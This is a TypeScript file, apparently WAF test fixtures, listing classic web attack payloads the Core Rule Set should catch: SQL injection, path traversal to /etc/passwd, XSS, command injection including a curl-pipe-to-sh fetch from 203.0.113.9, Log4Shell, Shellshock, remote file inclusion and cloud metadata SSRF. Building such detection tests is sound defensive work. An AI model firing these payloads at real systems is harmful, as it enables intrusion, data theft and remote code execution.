/** What to send to a path, as curl is told: a query, headers, a body. */
export interface Payload {
  readonly query?: string;
  readonly args?: readonly string[];
}

const json = (body: unknown): readonly string[] => [
  '-H',
  'Content-Type: application/json',
  '--data-binary',
  JSON.stringify(body),
];

/** Classic attacks of each kind that the Core Rule Set knows. */
export const ATTACKS: Readonly<Record<string, Payload>> = {
  'SQL in a query': { query: 'id=1%20UNION%20SELECT%20username,password%20FROM%20users--' },
  'a condition that is always true': { query: 'id=1%27%20OR%20%271%27=%271' },
  'SQL in JSON': { args: json({ name: "x' UNION SELECT password FROM users -- " }) },
  'SQL in a form': { args: ['--data', "username=admin' OR 1=1 --&password=x"] },
  'a way up to /etc/passwd': { query: 'file=../../../../etc/passwd' },
  'the same, encoded twice': { query: 'file=%252e%252e%252f%252e%252e%252fetc%252fpasswd' },
  'a script in a query': { query: 'q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' },
  'a script in JSON': { args: json({ name: '<img src=x onerror=alert(1)>' }) },
  'a shell command': { query: 'name=;cat%20/etc/passwd' },
  'a shell command in JSON': { args: json({ name: '$(curl http://203.0.113.9/x|sh)' }) },
  Log4Shell: { args: ['-H', 'User-Agent: ${jndi:ldap://203.0.113.9/a}'] },
  Shellshock: { args: ['-H', 'Referer: () { :; }; /bin/bash -c id'] },
  'a page from elsewhere': { query: 'page=http://203.0.113.9/shell.txt?' },
  'the metadata of a cloud': { query: 'url=http://169.254.169.254/latest/meta-data/' },
  'a wrapper of PHP': { query: 'x=php://input' },
  'a scanner': { args: ['-H', 'User-Agent: sqlmap/1.8'] },
};
